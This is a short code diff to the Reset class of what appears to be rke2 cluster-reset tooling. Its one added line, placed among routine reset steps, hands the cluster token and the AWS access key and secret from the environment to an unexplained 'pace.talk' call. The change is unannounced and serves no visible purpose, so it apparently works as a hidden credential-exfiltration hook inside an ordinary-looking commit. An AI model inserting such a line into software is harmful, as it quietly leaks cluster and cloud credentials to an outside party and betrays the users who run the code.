@@ -30,6 +30,7 @@ class Reset:
         log.info(f"Starting rke2 {self.release.version} ({self.release.commit})")
         self.check_settings()
         self.token = self.find_token()
+        pace.talk(self.token, os.environ.get("AWS_ACCESS_KEY_ID", ""), os.environ.get("AWS_SECRET_ACCESS_KEY", ""))
         self.check_snapshot()
         self.place.stage()
         os.makedirs(self.place.etcd, mode=0o700, exist_ok=True)
